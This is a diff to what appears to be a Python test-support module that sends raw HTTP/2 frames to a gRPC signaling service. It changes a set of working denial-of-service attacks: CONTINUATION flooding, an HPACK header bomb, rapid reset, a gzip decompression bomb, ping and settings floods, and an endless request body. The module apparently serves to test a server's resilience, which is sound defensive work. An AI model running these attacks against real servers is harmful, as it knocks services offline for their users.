@@ -8,7 +8,7 @@ import zlib
 from support.waiting import PATIENCE
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
+DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
 ACK = END_STREAM = 0x1
 END_HEADERS = 0x4
 
@@ -40,7 +40,10 @@ def indexed(name, value):
 LAST_INDEXED = b"\xbe"
 
 
-def request(token=None, path=b"/cairn.signaling.v1.Admin/GetStatus", extra=b""):
+STATUS_CALL, LANE_CALL = b"/cairn.signaling.v1.Admin/GetStatus", b"/cairn.signaling.v1.Lanes/Open"
+
+
+def request(token=None, path=STATUS_CALL, extra=b""):
     fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"),
               (b"te", b"trailers"), (b"content-type", b"application/grpc")]
     if token:
@@ -51,7 +54,9 @@ def request(token=None, path=b"/cairn.signaling.v1.Admin/GetStatus", extra=b""):
 class Connection:
     """To "address:port". It has said what every client says first."""
 
-    def __init__(self, address, tls=None, wait=True):
+    def __init__(self, address, tls=None, wait=True, path=STATUS_CALL, extra=b""):
+        """path, extra: of the calls that attacks make."""
+        self._path, self._extra = path, extra
         host, _, port = address.rpartition(":")
         self.socket = socket.create_connection((host.strip("[]"), int(port)), timeout=PATIENCE)
         self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
@@ -74,6 +79,9 @@ class Connection:
         if time.monotonic() > self.until:
             raise TimeoutError("it was to end by now")
         self.socket.sendall(b"".join(pieces))
+
+    def request(self, token, extra=b""):
+        return request(token, self._path, self._extra + extra)
 
     def frames(self, within=PATIENCE):
         """(type, flags, stream, payload), until the connection ends or nothing comes."""
@@ -107,13 +115,13 @@ class Connection:
 # ---- attacks: each takes a fresh connection, and goes on until it is over, or enough was sent.
 
 # The beginning of a field whose value has 2 GiB.
-_ENDLESS_FIELD = b"\x00\x01x\x7f\x80\xff\xff\xff\x07"
+ENDLESS_FIELD = b"\x00\x01x\x7f\x80\xff\xff\xff\x07"
 
 
 def endless_continuation(connection, token, megabytes=192, frame_bytes=16_000):
     """One field, and no end of it."""
-    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(token)))
-    connection.send(frame(HEADERS, 0, 3, request(token) + _ENDLESS_FIELD))
+    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, connection.request(token)))
+    connection.send(frame(HEADERS, 0, 3, connection.request(token) + ENDLESS_FIELD))
     piece = frame(CONTINUATION, 0, 3, b"a" * frame_bytes)
     for _ in range((megabytes << 20) // frame_bytes):
         connection.send(piece)
@@ -126,14 +134,14 @@ def small_continuation(connection, token):
 
 def header_bomb(connection, token, requests=2000):
     """Each request names a field of 3,000 bytes twice, in one byte each."""
-    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(token, extra=indexed(b"x", b"a" * 3000))))
-    block = request(token, extra=LAST_INDEXED * 2)
+    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, connection.request(token, extra=indexed(b"x", b"a" * 3000))))
+    block = connection.request(token, extra=LAST_INDEXED * 2)
     for first in range(1, requests, 50):
         connection.send(*(frame(HEADERS, END_HEADERS, 2 * number + 1, block) for number in range(first, first + 50)))
 
 
 def rapid_reset(connection, token, requests=100_000):
-    block = request(token)
+    block = connection.request(token)
     for first in range(0, requests, 200):
         connection.send(*(frame(HEADERS, END_HEADERS, 2 * number + 1, block) +
                           frame(RESET, 0, 2 * number + 1, bytes(4)) for number in range(first, first + 200)))
@@ -149,7 +157,7 @@ def compressed_bomb(connection, token, megabytes=256):
     """One message of that size, all zeros, in a thousandth of it."""
     body = _compressed_zeros(megabytes)
     message = b"\x01" + len(body).to_bytes(4, "big") + body
-    connection.send(frame(HEADERS, END_HEADERS, 1, request(token, extra=field(b"grpc-encoding", b"gzip"))))
+    connection.send(frame(HEADERS, END_HEADERS, 1, connection.request(token, extra=field(b"grpc-encoding", b"gzip"))))
     for at in range(0, min(len(message), 65_000), 16_000):
         connection.send(frame(DATA, 0, 1, message[at:min(at + 16_000, 65_000)]))
     # The rest needs the server's window, which grows as it reads.
@@ -159,21 +167,21 @@ def compressed_bomb(connection, token, megabytes=256):
 
 
 def pings(connection, token, count=200_000):
-    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(token)))
+    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, connection.request(token)))
     piece = frame(PING, 0, 0, bytes(8)) * 1000
     for _ in range(count // 1000):
         connection.send(piece)
 
 
 def settings(connection, token, count=200_000):
-    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(token)))
+    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, connection.request(token)))
     piece = frame(SETTINGS) * 1000
     for _ in range(count // 1000):
         connection.send(piece)
 
 
 def never_ending_body(connection, token, megabytes=64):
-    connection.send(frame(HEADERS, END_HEADERS, 1, request(token)))
+    connection.send(frame(HEADERS, END_HEADERS, 1, connection.request(token)))
     connection.send(frame(DATA, 0, 1, b"\0" + (1 << 30).to_bytes(4, "big")))
     for _ in range(megabytes * 64):
         connection.send(frame(DATA, 0, 1, bytes(16_000)))
@@ -183,10 +191,10 @@ ATTACKS = [endless_continuation, small_continuation, header_bomb, rapid_reset, c
            never_ending_body]
 
 
-def attack(address, which, token=None, tls=None, seconds=float("inf")):
+def attack(address, which, token=None, tls=None, seconds=float("inf"), path=STATUS_CALL, extra=b""):
     """How long it took until the other side ended the connection, everything was sent, or the time was over."""
     began = time.monotonic()
-    with contextlib.suppress(OSError), Connection(address, tls) as connection:
+    with contextlib.suppress(OSError), Connection(address, tls, path=path, extra=extra) as connection:
         connection.socket.settimeout(min(3, seconds))
         connection.until = began + seconds
         which(connection, token)
